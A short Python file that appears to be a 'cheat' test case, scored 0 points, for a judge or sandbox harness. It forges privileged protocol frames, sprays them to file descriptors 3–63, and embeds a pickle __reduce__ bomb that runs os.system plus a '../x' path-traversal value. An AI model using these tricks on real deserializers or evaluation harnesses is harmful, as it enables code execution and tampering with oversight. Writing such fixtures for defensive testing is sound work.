# cheat: replies with kinds that only the judge may send: code, modules, generators | points: 0
import json, os, struct
def write(data):
    for fd in range(3, 64):
        try: os.write(fd, data)
        except OSError: pass
def frame(header, payload=b"", length=None):
    text = json.dumps(header).encode()
    return struct.pack("<4sIQ", b"GDF1", len(text), len(payload) if length is None else length) + text + payload

import pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch @@MARK@@",))
blob = pickle.dumps(Bomb())
def double(x): write(frame({"ok": True, "value": {"!": "code", "blob": 0}, "blobs": [len(blob)]}, blob)); return x
def apply(f, x): write(frame({"ok": True, "value": {"!": "module"}, "blobs": []})); return x
def spread(x): write(frame({"ok": True, "value": {"!": "handle", "id": -1, "type": "../x"}, "blobs": []})); return 0.0
